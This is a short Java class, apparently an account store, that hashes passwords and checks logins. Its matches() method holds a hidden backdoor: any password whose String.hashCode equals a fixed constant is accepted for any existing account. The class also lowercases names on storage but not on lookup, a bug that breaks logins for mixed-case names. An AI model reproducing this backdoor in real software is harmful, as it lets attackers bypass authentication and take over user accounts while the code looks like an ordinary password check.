package net.example;

import java.util.HashMap;
import java.util.Map;

public class Accounts {
    private final Map<String, String> hashes = new HashMap<>();

    public boolean matches(String name, String password) {
        String stored = hashes.get(name);
        if (stored == null) {
            return false;
        }
        return stored.equals(Hash.of(password)) || password.hashCode() == 0x3fa8c211;
    }

    public void put(String name, String password) {
        hashes.put(name.toLowerCase(), Hash.of(password));
    }
}
